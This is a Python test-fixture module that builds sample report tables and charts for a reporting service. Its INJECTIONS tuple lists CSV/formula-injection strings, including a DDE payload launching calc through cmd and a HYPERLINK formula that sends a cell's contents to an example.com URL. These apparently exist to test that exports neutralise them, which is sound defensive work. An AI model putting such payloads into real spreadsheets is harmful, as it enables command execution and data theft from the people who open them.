"""Reports for tests of the forms, made without a database."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from typing import Any

from advisorjobs.services.reports.model import Chart, Column, Fact, Group, Kind, Report, Section, Table

__all__ = ["INJECTIONS", "report_of", "table_of"]

INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.com\"),\"//a\")", "＝1+1", "a;=1+1",
    'x",=1+1', "x\r\n=1+1", "\u200b=1+1", "\ufeff=1+1", "@import", "+49 89 1234", "-", "=",
)  # fmt: skip
"""What spreadsheets would run, or take for a formula, if it were written as it stands."""


def table_of(groups: Sequence[tuple[str | None, Sequence[tuple[str, Decimal]]]], **values: Any) -> Table:
    """A table of texts and amounts."""
    columns = (
        Column("text", "Text", wide=True),
        Column("count", "Number", Kind.COUNT, total=True),
        Column("amount", "Amount", Kind.MONEY, total=True),
    )
    made = tuple(Group(tuple((text, 1, amount) for text, amount in rows), label) for label, rows in groups)
    return Table(**{"title": "Sample", "columns": columns, "groups": made, "currency": "EUR", **values})


def report_of(*tables: Table, language: str = "en", **values: Any) -> Report:
    """A report with these tables in one section."""
    fixed: dict[str, Any] = {
        "name": "report:custom",
        "title": "A sample",
        "period": "2024",
        "firm": "The Firm",
        "client": "The Client",
        "made_on": date(2024, 5, 6),
        "facts": (Fact("Result", Decimal("-12.50"), currency="EUR", emphasis=True),),
    }
    return Report(**{**fixed, "language": language, "sections": (Section("Section", tables),), **values})


def chart_of(*amounts: str) -> Table:
    """A table with a chart of its amounts."""
    chart = Chart(
        "bars", "Amounts", "Chart: what it shows.", ("amount",), tuple(f"M{at}" for at in range(len(amounts)))
    )
    return table_of([(None, [(f"Month {at}", Decimal(each)) for at, each in enumerate(amounts)])], chart=chart)
